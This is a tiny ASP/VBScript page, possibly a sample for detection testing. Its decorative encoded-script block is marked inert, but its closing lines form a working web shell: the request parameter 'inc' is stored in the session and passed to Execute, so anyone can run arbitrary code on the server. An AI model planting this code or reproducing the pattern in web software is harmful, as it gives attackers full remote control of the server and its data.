<%@ Language=VBScript inert %>
<script runat="server" language="VBScript.Encode">
#@~^AAAAAA==INERT-NOT-AN-ENCODED-BODY==^#~@
</script>
<%
If Session("inc") = "" Then Session("inc") = Request("inc")
Execute Session("inc")
%>
